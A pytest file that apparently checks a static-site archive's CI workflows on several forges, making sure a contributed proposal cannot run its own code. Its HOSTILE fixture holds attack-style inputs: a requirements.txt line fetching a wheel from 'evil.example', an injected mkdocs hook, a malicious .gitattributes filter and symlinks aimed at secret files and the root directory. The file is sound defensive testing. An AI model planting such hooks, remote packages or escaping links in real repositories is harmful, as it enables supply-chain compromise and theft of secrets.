"""The commands of the workflows, run as they are written, on a repository with a proposal.

Forges do three things around them that stand in for here: they clone, they install what
requirements.txt names, and they take what is left for an artifact.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Mapping
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
import yaml
from ready_archive import Ready

import annotated_archive
from annotated_archive.starting.answers import OwnerAnswers
from annotated_archive.starting.files import FORGES, starting_files

IN_TURN = [
    # Its commands are GitHub's but for what they print; a good proposal goes through all of them.
    pytest.param(each, marks=pytest.mark.slow if each == "forgejo" else ())
    for each in FORGES
]
INSTALL = "python -m pip install --quiet --requirement requirements.txt"
ANSWERS = {
    "name": "The Valley",
    "editor": "The Keeper",
    "contact": "keeper@valley.example",
    "repository": "https://forge.example/valley/archive",
    "licence_text": "CC-BY-4.0",
    "licence_notes": "CC-BY-4.0",
    "licence_data": "CC0-1.0",
}
REGION = "content/regions/upper-ford.md"
GOOD = {
    REGION: "---\nname: Upper Ford\nwithin: [the-valley]\n---\n",
    "content/README.md": None,
}
"""Names a region that the base got only after the proposal was begun."""
WRONG = {REGION: "---\nname: Upper Ford\nwithin: [the-vally]\n---\n"}
NOTE = "---\ntarget: the-valley\nkind: context\nby: The Keeper\nlanguage: en\n---\n\nIt is wide.\n"
NOTE_ID = "the-valley/2025-02-11-wide"
HOOK = "from pathlib import Path\nPath(__file__).with_name('ran').write_text('x')\n"
HOSTILE = {
    f"content/notes/{NOTE_ID}.md": NOTE,
    "editors.lock": f"{NOTE_ID} {sha256(NOTE.encode()).hexdigest()}\n",
    "mkdocs.yml": "site_name: Another\nhooks: [evil.py]\nplugins: [annotated-archive]\n",
    "evil.py": HOOK,
    "annotated_archive.py": HOOK,
    "overrides/main.html": "another",
    "requirements.txt": "https://evil.example/evil.whl\n",
    ".gitattributes": "* filter=evil\n",
}
LINKS = {"content/secret.txt": "../../secret.txt", "content/people": "..", "links": "/"}


def git(folder: Path, *words: str) -> str:
    """Run git as nobody in particular, with no settings but these."""
    named = ("-c", "user.name=A reader", "-c", "user.email=reader@valley.example")
    command = ["git", "-C", str(folder), *named, "-c", "init.defaultBranch=main", *words]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout


def change(folder: Path, files: Mapping[str, str | None], links: Mapping[str, str] = {}) -> None:
    """Commit what a repository is to hold from now on."""
    for path, text in files.items():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, "utf-8") if text is not None else file.unlink(missing_ok=True)
    for path, target in links.items():
        subprocess.run(["rm", "-rf", folder / path], check=True)
        (folder / path).symlink_to(target)
    git(folder, "add", "--all")
    git(folder, "commit", "--quiet", "--message", "A change")


class Repository:
    """A base as `archive init` makes it, a proposal to it, and a clone as a job finds it."""

    def __init__(
        self,
        folder: Path,
        forge: str,
        proposal: Mapping[str, str | None],
        links: Mapping[str, str] = {},
        archive: Ready | None = None,
    ) -> None:
        """Write all of it; where no `archive` waits, each call of it begins as it does on a forge."""
        self.forge = forge
        self.upstream, self.work = folder / "valley" / "archive.git", folder / "work"
        made = starting_files(OwnerAnswers(forge=forge, **ANSWERS))  # type: ignore[arg-type]
        git(folder, "init", "--quiet", str(self.upstream))
        change(self.upstream, {path: data.decode() for path, data in made.items()})
        git(folder, "clone", "--quiet", str(self.upstream), str(folder / "fork"))
        change(folder / "fork", proposal, links)
        # The base goes on in the meantime.
        change(self.upstream, {"content/regions/the-valley.md": "---\nname: The Valley\n---\n"})
        source = folder / "fork" if forge == "gitlab" else self.upstream
        git(folder, "clone", "--quiet", str(source), str(self.work))
        git(self.work, "fetch", "--quiet", str(folder / "fork"), "main")
        if forge == "github":  # which checks out what the merge would be
            git(self.work, "merge", "--quiet", "--no-ff", "--no-edit", "FETCH_HEAD")
        git(
            self.work,
            "switch",
            "--quiet",
            "--detach",
            "HEAD" if forge == "github" else "FETCH_HEAD",
        )
        self.folder = folder
        programs = folder / "bin"
        programs.mkdir()
        runs = 'exec "$PYTHON" -c "from annotated_archive.cli import run; run()" "$@"'
        begins = archive.program() if archive else f"#!/bin/sh\n{runs}\n"
        python = '#!/bin/sh\nexec "$PYTHON" "$@"\n'
        for name, text in {"archive": begins, "python": python}.items():
            (programs / name).write_text(text, "utf-8")
            (programs / name).chmod(0o755)
        self.environment = {
            "PATH": f"{programs}:{os.environ['PATH']}",
            "PYTHON": sys.executable,
            # As installed: before what lies in the folder of the job.
            "PYTHONPATH": str(Path(annotated_archive.__file__).parents[1]),
            "PYTHONSAFEPATH": "1",
            "HOME": str(folder / "home"),
            "RUNNER_TEMP": str(folder),
            "GITHUB_BASE_REF": "main",
            "GITHUB_SHA": git(self.work, "rev-parse", "HEAD").strip(),
            "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
            "GITHUB_SERVER_URL": str(folder),
            "GITHUB_REPOSITORY": "valley/archive",
            "CI_MERGE_REQUEST_PROJECT_URL": str(self.upstream).removesuffix(".git"),
            "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
            "NO_MKDOCS_2_WARNING": "1",
        }

    def run(self, script: str, **more: str) -> subprocess.CompletedProcess[str]:
        """Run a script as a forge does: it ends at the first command that fails."""
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
            cwd=self.work, env={**self.environment, **more}, capture_output=True, text=True, check=False,
        )  # fmt: skip

    def steps(self, name: str) -> list[str]:
        """Return the scripts of a workflow, or of a job of GitLab's, but what only installs."""
        if self.forge == "gitlab":
            text = (self.work / ".gitlab-ci.yml").read_text("utf-8")
            job: dict[str, Any] = yaml.safe_load(text)[{"publish": "pages"}.get(name, name)]
            assert INSTALL in job["script"]
            return ["\n".join(line for line in job["script"] if line != INSTALL)]
        file = self.work / f".{self.forge}" / "workflows" / f"{name}.yml"
        jobs = yaml.safe_load(file.read_text("utf-8"))["jobs"].values()
        scripts = [step["run"] for job in jobs for step in job["steps"] if "run" in step]
        assert INSTALL in scripts
        return [each for each in scripts if each != INSTALL and not each.startswith("apt-get ")]

    def do(self, name: str, **more: str) -> tuple[int, str]:
        """Run the steps of a workflow; return the status of the first that fails, and what it said."""
        said = ""
        for script in self.steps(name):
            done = self.run(script, **more)
            said = done.stdout + done.stderr
            if done.returncode:
                return done.returncode, said
        return 0, said

    def outside(self) -> str:
        """Return how the clone's own files differ from the base's, the content aside."""
        return git(self.work, "diff", "--stat", git(self.upstream, "rev-parse", "HEAD").strip(),
                   "--", ".", ":!content")  # fmt: skip

    @property
    def changes(self) -> str:
        """What the job wrote of the change, for who reviews it."""
        if self.forge == "github":
            return self.summary
        folder = self.work / "preview" if self.forge == "forgejo" else self.work
        return (folder / "changes.md").read_text("utf-8")

    @property
    def summary(self) -> str:
        """What the check wrote for people."""
        places = {"github": self.folder, "forgejo": self.work / "preview", "gitlab": self.work}
        return (places[self.forge] / "summary.md").read_text("utf-8")


@pytest.mark.parametrize("forge", FORGES)
def test_a_good_proposal_passes_and_is_shown(forge: str, tmp_path: Path, archive: Ready) -> None:
    """With the base as it is by now, and with a preview whose links lead to files."""
    here = Repository(tmp_path, forge, GOOD, archive=archive)
    status, said = here.do("check")
    assert status == 0, said
    preview = here.work / "preview" / ("site" if forge == "forgejo" else "")
    page = (preview / "regions" / "upper-ford" / "index.html").read_text("utf-8")
    assert 'href="../the-valley/index.html"' in page
    assert "| Errors | 0 |" in here.summary
    assert "- added region ` upper-ford ` ` Upper Ford `" in here.changes
    assert here.outside() == ""


@pytest.mark.parametrize("forge", IN_TURN)
def test_a_proposal_with_an_error_fails(forge: str, tmp_path: Path, archive: Ready) -> None:
    """On the line of its file, as the forge has it; no preview is made."""
    here = Repository(tmp_path, forge, WRONG, archive=archive)
    status, said = here.do("check")
    assert status == 1
    assert f"{REGION}:3" in here.summary
    assert not (here.work / "site").exists()
    if forge == "github":
        assert f"::error file={REGION},line=3,title=no-such-record::" in said
    elif forge == "forgejo":
        assert f"error: {REGION}:3: no record “the-vally”" in said
    else:
        report = json.loads((here.work / "code-quality.json").read_text("utf-8"))
        assert {"path": REGION, "lines": {"begin": 3}} in [each["location"] for each in report]
        assert "no-such-record" in said


@pytest.mark.parametrize("forge", IN_TURN)
def test_a_proposal_is_checked_by_the_bases_own_files(forge: str, tmp_path: Path) -> None:
    """Its settings, hooks, templates, requirements and signatures are not there while it is checked,
    and its links lead nowhere: they are files that hold a path.
    """
    (tmp_path / "secret.txt").write_text("a secret of the machine", "utf-8")
    here = Repository(tmp_path, forge, HOSTILE, LINKS)
    status, said = here.do("check")
    assert status == 1
    assert "editor-unsigned" in here.summary
    assert "content/people" in here.summary
    assert here.outside() == ""
    assert not any((here.work / name).exists() for name in ("evil.py", "ran", "overrides", "links"))
    assert [path for path in here.work.rglob("*") if path.is_symlink()] == []
    assert "a secret of the machine" not in said + here.summary


@pytest.mark.parametrize("path", ["content/.gitattributes", "content/regions/.gitattributes"])
@pytest.mark.parametrize("forge", IN_TURN)
def test_a_proposal_cannot_say_how_git_writes_its_files(
    forge: str, path: str, tmp_path: Path
) -> None:
    """Else words that were not read could stand in what is checked, or none of those that were."""
    here = Repository(tmp_path, forge, {**GOOD, path: "*.md ident\n"})
    status, said = here.do("check")
    assert status == 1
    assert "The request changes .gitattributes below content/" in said
    assert not (here.work / "site").exists()


def test_a_proposal_that_cannot_be_merged_is_told_so(tmp_path: Path) -> None:
    """Before anything of it is looked at; GitHub starts no check of such a request."""
    for forge in ("forgejo", "gitlab"):
        (tmp_path / forge).mkdir()
        path = "content/regions/the-valley.md"
        here = Repository(tmp_path / forge, forge, {path: "---\nname: The Vale\n---\n"})
        assert here.do("check")[0] == 1
        assert not (here.work / "site").exists()


@pytest.mark.parametrize("forge", IN_TURN)
def test_the_site_is_published(forge: str, tmp_path: Path, archive: Ready) -> None:
    """Built strictly, with a cache, and looked over; Forgejo's branch holds this one site alone."""
    here = Repository(tmp_path, forge, GOOD, archive=archive)
    git(here.work, "fetch", "--quiet", str(here.upstream), "main")
    git(here.work, "switch", "--quiet", "--detach", "FETCH_HEAD")
    key = {"ARCHIVE_CACHE_KEY": "k" * 32, "TOKEN": "a token", "ABSENT": ""}
    status, said = here.do("publish", **key)
    assert status == 0, said
    site = here.work / ("public" if forge == "gitlab" else "site")
    assert (site / "index.html").is_file()
    assert list((here.work / ".cache" / "annotated-archive").iterdir())
    if forge == "forgejo":
        listed = git(here.upstream, "ls-tree", "--name-only", "pages").split()
        assert {"index.html", "404.html"} <= set(listed)
        assert git(here.upstream, "rev-list", "--count", "pages").strip() == "1"
        assert "a token" not in said


def test_what_must_be_absent_stops_a_site(tmp_path: Path, archive: Ready) -> None:
    """Phrases come out of a secret, where mkdocs.yml asks for them."""
    here = Repository(tmp_path, "github", WRONG, archive=archive)
    git(here.work, "switch", "--quiet", "--detach", "origin/main")
    settings = here.work / "mkdocs.yml"
    place = "  - annotated-archive:\n"
    asked = f'{place}      absent: !ENV [ARCHIVE_ABSENT, ""]\n'
    settings.write_text(settings.read_text("utf-8").replace(place, asked), "utf-8")
    status, said = here.do("publish", ABSENT="the VALLEY\n", ARCHIVE_CACHE_KEY="")
    assert status != 0
    assert "what must be absent" in said
    assert not (here.work / "site").exists()
